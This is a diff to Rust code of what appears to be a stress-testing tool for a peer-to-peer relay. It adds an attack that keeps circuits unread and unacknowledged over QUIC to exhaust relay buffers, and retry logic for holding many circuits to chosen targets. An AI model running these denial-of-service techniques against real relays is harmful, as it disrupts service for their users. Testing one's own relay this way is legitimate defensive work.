@@ -52,6 +52,8 @@ const ATTEMPT: Duration = Duration::from_secs(10);
 const SOCK_RAW: i32 = 3;
 /// The receive buffers of attackers that do not read, in bytes.
 const SMALL_BUFFER: u32 = 4096;
+/// How many bytes the relay may send on a stream of theirs over QUIC: enough for an answer.
+const WINDOW: u32 = 1024;
 /// How long sockets are not read at a time, and how long they are read in between.
 const FROZEN: Duration = Duration::from_secs(8);
 const THAWED: Duration = Duration::from_secs(6);
@@ -63,7 +65,9 @@ const COUNTS: Duration = Duration::from_millis(500);
 pub(crate) enum Attack {
     /// Circuits whose ends send and never read, with two streams of pings on each connection.
     UnreadOverQuic,
-    /// The same. Targets do not even read their sockets, whose buffers are small.
+    /// The same, but targets do not even read their sockets, so nothing is acknowledged.
+    UnacknowledgedOverQuic,
+    /// The same over TCP, with small buffers of sockets.
     UnreadOverTcp,
     /// The same over WebSocket, where sockets are read.
     UnreadOverWebsocket,
@@ -205,6 +209,9 @@ impl Assault {
             .store(goal(attack, sources, &targets), Ordering::Relaxed);
         match attack {
             Attack::UnreadOverQuic => self.unread(&addresses.quic, reserved, None),
+            Attack::UnacknowledgedOverQuic => {
+                self.unread(&addresses.quic, reserved, Some(frozen_runtime()));
+            }
             Attack::UnreadOverTcp => self.unread(&addresses.tcp, reserved, Some(frozen_runtime())),
             Attack::UnreadOverWebsocket => self.unread(&addresses.websocket, reserved, None),
             // Enough for all circuits, whatever number of addresses there is.
@@ -303,10 +310,11 @@ fn goal(attack: Attack, sources: usize, targets: &[String]) -> u64 {
     let reserved = RESERVATIONS_PER_ADDRESS * sources.min(2);
     let goal = match attack {
         // All but a few.
-        Attack::UnreadOverQuic | Attack::UnreadOverTcp | Attack::UnreadOverWebsocket => {
-            reserved * CIRCUITS_PER_PEER / 10 * 9
-        }
-        Attack::Circuits => (RESERVATIONS_PER_ADDRESS * sources).min(100) * CIRCUITS_PER_PEER,
+        Attack::UnreadOverQuic
+        | Attack::UnacknowledgedOverQuic
+        | Attack::UnreadOverTcp
+        | Attack::UnreadOverWebsocket => reserved * CIRCUITS_PER_PEER / 10 * 9,
+        Attack::Circuits => (RESERVATIONS_PER_ADDRESS * sources).min(90) * CIRCUITS_PER_PEER,
         Attack::CircuitsToTargets => targets.len() * CIRCUITS_PER_PEER / 2,
         Attack::WebsocketFrames | Attack::TcpHandshakes | Attack::AdminRequests => 50,
         Attack::Connections | Attack::Reservations => 500,
@@ -376,6 +384,11 @@ async fn unread(
     targets: Option<Handle>,
     counts: Arc<Counts>,
 ) -> io::Result<()> {
+    // Without a window of its own, a target takes in megabytes before it holds the relay up.
+    let streams = match targets {
+        Some(_) => Streams::Usual,
+        None => Streams::Narrow(WINDOW),
+    };
     let targets = targets.unwrap_or_else(Handle::current);
     let (send, started) = tokio::sync::oneshot::channel();
     let (far_counts, far_address) = (Arc::clone(&counts), address.clone());
@@ -383,7 +396,7 @@ async fn unread(
     let mut far = JoinSet::new();
     far.spawn_on(
         async move {
-            let mut target = reserved(&far_address, Streams::Narrow(1)).await?;
+            let mut target = reserved(&far_address, streams).await?;
             let _ = send.send(target.peer_id);
             let mut writing = JoinSet::new();
             writing.spawn(drop_error(ping(
@@ -406,7 +419,7 @@ async fn unread(
     let target = reserved
         .map_err(io::Error::other)?
         .map_err(io::Error::other)?;
-    let source = peer(&address, Streams::Narrow(1)).await?;
+    let source = peer(&address, streams).await?;
     let request = connect(&target.to_bytes());
     let mut writing = JoinSet::new();
     writing.spawn(drop_error(ping(source.requester(), Arc::clone(&counts))));
@@ -450,21 +463,26 @@ async fn circuits(address: Multiaddr, counts: Arc<Counts>) -> io::Result<()> {
 
 /// A source that opens as many circuits to this target as it may, and holds them.
 async fn circuits_to(address: Multiaddr, target: PeerId, counts: Arc<Counts>) -> io::Result<()> {
+    /// As the relay limits the requests of a peer, another one follows after a while.
+    const ATTEMPTS: usize = 20;
+    const PAUSE: Duration = Duration::from_millis(500);
     let source = peer(&address, Streams::Usual).await?;
     let request = connect(&target.to_bytes());
     let holding = (0..CIRCUITS_PER_PEER).map(|_| {
         let mut requester = source.requester();
         let (request, counts) = (&request, &counts);
         async move {
-            let mut stream = limited(requester.request(request)).await?;
-            let _held = counts.hold();
-            // The end of the circuit.
-            let _ = stream.read(&mut [0]).await;
-            io::Result::Ok(())
+            for _ in 0..ATTEMPTS {
+                if let Ok(mut stream) = limited(requester.request(request)).await {
+                    let _held = counts.hold();
+                    // The end of the circuit.
+                    let _ = stream.read(&mut [0]).await;
+                }
+                sleep(PAUSE).await;
+            }
         }
     });
     join_all(holding).await;
-    // Another source, as the relay may limit the requests of this one.
     Err(io::ErrorKind::ConnectionReset.into())
 }
 
